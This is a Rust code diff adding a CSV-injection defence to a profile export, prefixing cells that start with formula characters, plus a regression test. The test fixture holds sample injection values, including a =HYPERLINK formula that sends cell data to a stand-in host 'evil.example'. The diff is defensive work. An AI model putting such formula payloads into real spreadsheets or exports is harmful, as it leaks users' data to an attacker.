@@ -96,7 +96,7 @@ fn expression(text: &str) -> Result<kanta_segment::Expr, ApiError> {
 }
 
 fn json_body<T: serde::de::DeserializeOwned>(body: Result<Bytes, BytesRejection>, shape: &str) -> Result<T, ApiError> {
-    let body = body.map_err(|e| ApiError::BadRequest(e.body_text()))?;
+    let body = body.map_err(ApiError::from)?;
     serde_json::from_slice(&body).map_err(|e| ApiError::BadRequest(format!("the body must be {shape}: {e}")))
 }
 
@@ -319,25 +319,39 @@ const CSV_HEADER: [&str; 11] = [
     "erased_at",
 ];
 
+/// A cell as a spreadsheet may safely open it: text starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return is a formula to Excel, LibreOffice and Google Sheets (`=HYPERLINK(…)` sends
+/// data away when clicked), so such a cell gets a leading `'`, which spreadsheets show as text
+/// (OWASP's "CSV injection" advice). The cost: a phone `+358…` reads `'+358…` in the raw file.
+fn spreadsheet_safe(cell: String) -> String {
+    match cell.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{cell}"),
+        _ => cell,
+    }
+}
+
 fn profiles_csv(profiles: &[Profile]) -> Result<Vec<u8>, csv::Error> {
     let mut out = csv::Writer::from_writer(Vec::with_capacity(128 * (profiles.len() + 1)));
     out.write_record(CSV_HEADER)?;
     for p in profiles {
         let attributes = p.attributes.as_ref().map(|a| a.to_string()).unwrap_or_default();
         let text = |v: &Option<String>| v.clone().unwrap_or_default();
-        out.write_record([
-            p.id.clone(),
-            text(&p.email),
-            text(&p.phone),
-            text(&p.name),
-            text(&p.timezone),
-            text(&p.locale),
-            text(&p.birthday),
-            attributes,
-            p.created_at.clone(),
-            p.updated_at.clone(),
-            text(&p.erased_at),
-        ])?;
+        out.write_record(
+            [
+                p.id.clone(),
+                text(&p.email),
+                text(&p.phone),
+                text(&p.name),
+                text(&p.timezone),
+                text(&p.locale),
+                text(&p.birthday),
+                attributes,
+                p.created_at.clone(),
+                p.updated_at.clone(),
+                text(&p.erased_at),
+            ]
+            .map(spreadsheet_safe),
+        )?;
     }
     out.into_inner().map_err(|e| csv::Error::from(e.into_error()))
 }
@@ -368,6 +382,42 @@ mod tests {
              00042,a@example.com,,\"Ahti, \"\"A\"\" Virtanen\",,fi,,\"{\"\"tier\"\":\"\"gold\"\"}\",\
              2024-01-01T00:00:00Z,2024-01-02T00:00:00Z,\n"
         );
+    }
+
+    #[test]
+    fn cells_that_spreadsheets_would_run_as_formulas_are_prefixed() {
+        // Regression (issue 16): `=HYPERLINK(…)` and `=1+2` were exported as they are.
+        let profile = Profile {
+            id: "=1+2".into(),
+            email: Some("@SUM(A1)".into()),
+            phone: Some("+358401234567".into()),
+            name: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into()),
+            timezone: Some("-cmd".into()),
+            locale: Some("\tfi".into()),
+            birthday: Some("\r1990".into()),
+            attributes: None,
+            created_at: "2024-01-01T00:00:00Z".into(),
+            updated_at: "2024-01-02T00:00:00Z".into(),
+            erased_at: None,
+        };
+        let text = String::from_utf8(profiles_csv(&[profile]).expect("csv")).expect("utf-8");
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let row = reader.records().next().expect("a row").expect("valid CSV");
+        let cells: Vec<&str> = row.iter().take(7).collect();
+        assert_eq!(
+            cells,
+            [
+                "'=1+2",
+                "'@SUM(A1)",
+                "'+358401234567",
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                "'-cmd",
+                "'\tfi",
+                "'\r1990"
+            ]
+        );
+        assert_eq!(spreadsheet_safe("ok=fine".into()), "ok=fine");
+        assert_eq!(spreadsheet_safe(String::new()), "");
     }
 
     #[test]
